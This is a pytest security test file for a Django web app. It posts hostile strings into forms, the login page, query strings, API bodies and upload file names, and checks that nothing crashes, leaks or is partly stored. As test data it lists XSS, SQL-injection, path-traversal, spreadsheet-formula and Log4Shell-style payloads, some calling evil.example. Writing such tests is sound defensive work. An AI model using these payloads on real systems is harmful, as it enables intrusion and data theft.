"""Hostile input everywhere a person or device can type: never a server error, never a partial write.

Every text field of every form gets every hostile string; the API gets malformed bodies; uploads get
hostile names. A request that is refused must leave the stored data exactly as it was.
"""

from __future__ import annotations

import json

import pytest
from django.apps import apps
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from tebiki.web.devices.models import EnrolmentToken

HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' OR '1'='1' --",
    "1; DROP TABLE orgs_organisation; --",
    "../../../../etc/passwd",
    "=HYPERLINK(\"http://evil.example\",\"x\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "{{ settings.SECRET_KEY }}",
    "${jndi:ldap://evil.example/a}",
    "\u202egnp.exe",
    "nul\x00byte",
    "𝕿𝖊𝖇𝖎𝖐𝖎 " * 30,
    "x" * 5000,
    "   ",
    "-1",
    "９９９９９９９９９９９９",
]


def counts() -> dict[str, int]:
    return {m._meta.label: m.objects.count() for m in apps.get_models() if m._meta.app_label in
            ("orgs", "assessments", "devices", "accounts")}


ITEM = ("item", lambda c: [c.org.id, "mic-v5:admin:A-1", "organisation"])
FORMS = [
    # (url name, args, base valid data, fields to attack, who)
    ("org_new", lambda c: [], {"name": "ok"}, ["name"], "admin"),
    ("setup_profile", lambda c: [c.org.id], {"name": "ok", "size": "45", "admin": "inhouse"}, ["name", "size", "admin",
                                                                                           "cloud"], "admin"),
    ("members", lambda c: [c.org.id], {"email": "a@b.example", "role": "worker"}, ["email", "role"], "admin"),
    (*ITEM, {"status": "partly", "decision": "will_do", "deadline": "2027-01-01", "owner": "佐藤", "reason": "r"},
     ["owner", "reason", "deadline", "decision", "status"], "admin"),
    ("item_status", ITEM[1], {"status": "done"}, ["status"], "admin"),
    ("create_token", lambda c: [c.org.id], {"label": "PCs"}, ["label"], "admin"),
]
CASES = [(name, args, base, field, who, s) for name, args, base, fields, who in FORMS for field in fields
         for s in HOSTILE]


@pytest.mark.parametrize("name,args,base,field,who,hostile", CASES,
                         ids=[f"{c[0]}-{c[3]}-{i % len(HOSTILE)}" for i, c in enumerate(CASES)])
def test_forms_survive_hostile_text(cast, name, args, base, field, who, hostile):
    client = cast.client(getattr(cast, who))
    before = counts()
    r = client.post(reverse(name, args=args(cast)), {**base, field: hostile})
    assert r.status_code < 500
    if r.status_code >= 400:
        assert counts() == before
    page = client.get(reverse("dashboard", args=[cast.org.id]), follow=True)
    assert page.status_code < 500
    assert "<script>alert(1)</script>" not in page.content.decode()


@pytest.mark.parametrize("hostile", HOSTILE)
def test_sign_in_survives_hostile_text(cast, hostile):
    r = Client().post("/accounts/login/", {"username": hostile, "password": hostile})
    assert r.status_code == 200 and "<script>alert(1)</script>" not in r.content.decode()


@pytest.mark.parametrize("hostile", HOSTILE)
def test_checklist_filters_survive_hostile_query_strings(cast, hostile):
    r = cast.client(cast.viewer).get(reverse("checklist", args=[cast.org.id]),
                                     {"role": hostile, "category": hostile, "scope": hostile, "show": hostile})
    assert r.status_code == 200


BAD_BODIES = [
    b"", b"{", b"null", b"[]", b"\"string\"", b"12", b"{\"idempotency_key\": null}", b"\xff\xfe\x00garbage",
    json.dumps({"idempotency_key": "k" * 20, "device": [], "as_of": "2026-01-01", "checks": {}}).encode(),
    json.dumps({"idempotency_key": "k" * 20, "device": {"key": "x" * 500, "hostname": "h", "os": "linux"},
                "as_of": "2026-01-01", "checks": {"firewall": {"verdict": "pass"}}}).encode(),
    json.dumps({"idempotency_key": "'; DROP TABLE devices_device; --", "device": {}, "as_of": "x", "checks": {}}).encode(),
    json.dumps({"idempotency_key": "k" * 20, "device": {"key": "abcdefgh", "hostname": "h", "os": "linux"},
                "as_of": "2026-13-45", "checks": {"firewall": {"verdict": "pass"}}}).encode(),
    json.dumps({"reports": []}).encode(),
    json.dumps({"reports": [{}] * 600}).encode(),
    json.dumps({"idempotency_key": "k" * 20, "device": {"key": "abcdefgh", "hostname": "h", "os": "linux"},
                "files": {"linux/" + "a" * 100: "x"}}).encode(),
    b"{" * 10000,
    json.dumps({"a": "x" * 300_000}).encode(),
    json.dumps({"idempotency_key": "k" * 20, "device": {"key": "abcdefgh", "hostname": "h", "os": "linux"},
                "as_of": "2026-01-01", "checks": {"firewall": {"verdict": "pass", "evidence": "not a dict"}}}).encode(),
]


@pytest.mark.parametrize("path", ["/api/v1/agent/reports", "/api/v1/agent/reports/batch", "/api/v1/agent/captures"])
@pytest.mark.parametrize("body", BAD_BODIES, ids=range(len(BAD_BODIES)))
def test_the_api_refuses_malformed_bodies_without_storing(cast, path, body):
    _, token = EnrolmentToken.issue(cast.org, "t", None)
    before = counts()
    r = Client().post(path, body, content_type="application/json", headers={"Authorization": f"Bearer {token}"})
    assert 400 <= r.status_code < 500, r.status_code
    assert {k: v for k, v in counts().items() if k != "devices.EnrolmentToken"} == \
           {k: v for k, v in before.items() if k != "devices.EnrolmentToken"}


UPLOAD_NAMES = ["../../../etc/passwd.txt", "..\\..\\windows\\win.ini.txt", "/etc/shadow.txt", "a\x00.pdf.txt",
                "CON.txt", "<script>.txt", "very" * 100 + ".txt", ".txt", "report.pdf.exe", "ファイル名.txt"]


@pytest.mark.parametrize("filename", UPLOAD_NAMES)
def test_hostile_upload_names_are_kept_as_data_only(cast, filename, settings):
    from tebiki.web.assessments.models import Evidence

    client = cast.client(cast.admin)
    r = client.post(reverse("evidence_upload", args=[cast.org.id, "mic-v5:admin:A-1", "organisation"]),
                    {"file": SimpleUploadedFile(filename, b"plain text evidence")})
    assert r.status_code < 500
    for ev in Evidence.objects.all():
        stored = ev.file.path
        assert stored.startswith(str(settings.MEDIA_ROOT)) and ".." not in ev.file.name
        assert "<script>" not in client.get(reverse("item", args=[cast.org.id, "mic-v5:admin:A-1",
                                                                  "organisation"])).content.decode()


def test_the_suite_has_at_least_two_hundred_cases():
    assert len(CASES) + 2 * len(HOSTILE) + 3 * len(BAD_BODIES) + len(UPLOAD_NAMES) >= 200
